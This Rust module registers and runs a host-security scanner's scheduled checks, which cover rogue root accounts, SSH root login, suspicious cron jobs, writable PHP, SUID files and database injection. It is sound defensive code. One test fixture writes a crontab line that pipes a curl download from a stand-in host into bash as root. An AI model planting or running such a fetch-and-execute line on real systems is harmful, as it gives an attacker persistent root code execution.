//! Scheduled host checks: the critical set (every 10 minutes) and the deep set (every 60
//! minutes), plus the hardening audit.
//!
//! Each check is a plain function `fn(&CheckContext) -> Vec<Finding>`. It reads only the
//! paths in its [`CheckContext`] (so tests run it on fixture trees), never follows symlinks
//! while walking, bounds every walk, file read and result list by [`CheckLimits`], skips
//! unreadable or vanishing files (counted in [`CheckCounters`]) and never panics on what it
//! reads. Messages are stable for the same condition, so the active set (keyed by check and
//! message) merges repeats; what changes between runs (line numbers, modes) is in `details`.

pub mod accounts;
pub mod context;
pub mod cron;
pub mod file_index;
pub mod hardening;
pub mod jobs;
pub mod mountinfo;
pub mod perf;
pub mod phishing;
pub mod phpini;
pub mod sink;
pub mod sitedb;
pub mod sshd;
pub mod suid;
pub mod taint;
pub mod uploads;
pub mod walk;
pub mod webroot;

#[cfg(test)]
pub(crate) mod testutil;

use std::panic::{catch_unwind, AssertUnwindSafe};
use std::time::Duration;

pub use context::{CheckContext, CheckContextBuilder, CheckCounters, CheckLimits, CounterSnapshot};
pub use hardening::{
    hardening_audit, hardening_findings, HardeningCategory, HardeningItem, HardeningReport,
    HardeningStatus, HardeningSummary,
};

use crate::findings::{Finding, Severity};

/// How often the critical set runs.
pub const CRITICAL_INTERVAL: Duration = Duration::from_secs(10 * 60);
/// How often the deep set runs.
pub const DEEP_INTERVAL: Duration = Duration::from_secs(60 * 60);

/// A check and the name its findings carry in `check`.
#[derive(Clone, Copy)]
pub struct NamedCheck {
    pub name: &'static str,
    pub run: fn(&CheckContext) -> Vec<Finding>,
}

impl std::fmt::Debug for NamedCheck {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("NamedCheck")
            .field("name", &self.name)
            .finish()
    }
}

static CRITICAL: [NamedCheck; 3] = [
    NamedCheck {
        name: accounts::CHECK,
        run: accounts::uid0_account,
    },
    NamedCheck {
        name: sshd::CHECK,
        run: sshd::sshd_root_password_login,
    },
    NamedCheck {
        name: cron::CHECK,
        run: cron::suspicious_cron,
    },
];

static DEEP: [NamedCheck; 14] = [
    NamedCheck {
        name: webroot::CHECK,
        run: webroot::world_writable_php,
    },
    NamedCheck {
        name: suid::CHECK,
        run: suid::suid_unexpected,
    },
    NamedCheck {
        name: crate::waf::detect::CHECK,
        run: waf_status,
    },
    NamedCheck {
        name: perf::ERROR_LOG_CHECK,
        run: perf::huge_error_logs,
    },
    NamedCheck {
        name: perf::DISPLAY_ERRORS_CHECK,
        run: perf::site_display_errors,
    },
    NamedCheck {
        name: perf::CMS_CRON_CHECK,
        run: perf::cms_cron,
    },
    NamedCheck {
        name: phishing::CHECK,
        run: phishing::phishing_pages,
    },
    NamedCheck {
        name: uploads::CHECK,
        run: uploads::executables,
    },
    NamedCheck {
        name: taint::CHECK,
        run: taint::php_taint_flows,
    },
    NamedCheck {
        name: sitedb::OPTION_CHECK,
        run: sitedb::injected_options,
    },
    NamedCheck {
        name: sitedb::POST_CHECK,
        run: sitedb::injected_posts,
    },
    NamedCheck {
        name: sitedb::TRIGGER_CHECK,
        run: sitedb::injected_triggers,
    },
    NamedCheck {
        name: sitedb::EVENT_CHECK,
        run: sitedb::injected_events,
    },
    NamedCheck {
        name: sitedb::ROUTINE_CHECK,
        run: sitedb::injected_routines,
    },
];

/// `waf_status`: ModSecurity missing on a present web server (with the install hint), or
/// stale rule trees (see `crate::waf::detect`).
fn waf_status(ctx: &CheckContext) -> Vec<Finding> {
    crate::waf::detect::findings(&ctx.sysroot, ctx.clock.now())
}

/// The hardening audit as a check: its failing items as WARNING `hardening_<name>`
/// findings. Not part of [`deep_checks`]; add it where the operator wants those findings.
pub const HARDENING_CHECK: NamedCheck = NamedCheck {
    name: hardening::CHECK,
    run: hardening::hardening_check,
};

/// `uid0_account`, `sshd_root_password_login`, `suspicious_cron`.
pub fn critical_checks() -> &'static [NamedCheck] {
    &CRITICAL
}

/// `world_writable_php`, `suid_unexpected`, `waf_status`, `perf_error_log`,
/// `php_display_errors`, `perf_cms_cron`, `phishing_page`, `executable_in_uploads`,
/// `php_taint_flow`, `db_option_injected`, `db_post_injected`, `db_trigger_injected`,
/// `db_event_injected`, `db_routine_injected`.
pub fn deep_checks() -> &'static [NamedCheck] {
    &DEEP
}

/// A check of the critical or deep set (or the hardening check) by name.
pub fn find_check(name: &str) -> Option<NamedCheck> {
    CRITICAL
        .iter()
        .chain(DEEP.iter())
        .chain(std::iter::once(&HARDENING_CHECK))
        .find(|c| c.name == name)
        .copied()
}

/// Message of the finding a panicking check is replaced by.
pub const PANIC_MESSAGE: &str = "check failed internally";

/// Runs every check of `set` in order and concatenates their findings. A check that panics
/// is counted (`check_panics`), logged, and reported as one WARNING finding under its name;
/// the other checks still run.
pub fn run_all(set: &[NamedCheck], ctx: &CheckContext) -> Vec<Finding> {
    let mut out = Vec::new();
    for check in set {
        match catch_unwind(AssertUnwindSafe(|| (check.run)(ctx))) {
            Ok(f) => out.extend(f),
            Err(_) => {
                context::count(&ctx.counters().check_panics, 1);
                log::error!("check {} panicked", check.name);
                out.push(
                    Finding::new(
                        check.name,
                        Severity::Warning,
                        PANIC_MESSAGE,
                        ctx.clock.now(),
                    )
                    .with_details("the check stopped with an internal error; see the log"),
                );
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::testutil::Fixture;

    #[test]
    fn registry_names_match_findings() {
        let names: Vec<_> = critical_checks().iter().map(|c| c.name).collect();
        assert_eq!(
            names,
            [
                "uid0_account",
                "sshd_root_password_login",
                "suspicious_cron"
            ]
        );
        let names: Vec<_> = deep_checks().iter().map(|c| c.name).collect();
        assert_eq!(
            names,
            [
                "world_writable_php",
                "suid_unexpected",
                "waf_status",
                "perf_error_log",
                "php_display_errors",
                "perf_cms_cron",
                "phishing_page",
                "executable_in_uploads",
                "php_taint_flow",
                "db_option_injected",
                "db_post_injected",
                "db_trigger_injected",
                "db_event_injected",
                "db_routine_injected"
            ]
        );
        assert!(find_check("suid_unexpected").is_some());
        assert!(find_check("hardening_audit").is_some());
        assert!(find_check("nope").is_none());
    }

    #[test]
    fn run_all_runs_every_check_on_a_fixture_host() {
        let fx = Fixture::new();
        fx.write(
            "etc/passwd",
            b"root:x:0:0::/root:/bin/sh\nx:x:0:0::/:/bin/sh\n",
        );
        fx.write("etc/ssh/sshd_config", b"PermitRootLogin yes\n");
        fx.write(
            "etc/crontab",
            b"* * * * * root curl -s http://e.x/a | bash\n",
        );
        let ctx = fx.ctx();
        let f = run_all(critical_checks(), &ctx);
        let checks: Vec<_> = f.iter().map(|f| f.check.as_str()).collect();
        assert_eq!(
            checks,
            [
                "uid0_account",
                "sshd_root_password_login",
                "suspicious_cron"
            ]
        );
        assert!(run_all(deep_checks(), &ctx).is_empty());
    }

    fn boom(_: &CheckContext) -> Vec<Finding> {
        panic!("test panic")
    }

    #[test]
    fn a_panicking_check_is_isolated_and_counted() {
        let fx = Fixture::new();
        let ctx = fx.ctx();
        let set = [
            NamedCheck {
                name: "boom",
                run: boom,
            },
            NamedCheck {
                name: "uid0_account",
                run: accounts::uid0_account,
            },
        ];
        let f = run_all(&set, &ctx);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].message, PANIC_MESSAGE);
        assert_eq!(ctx.counters().snapshot().check_panics, 1);
    }
}
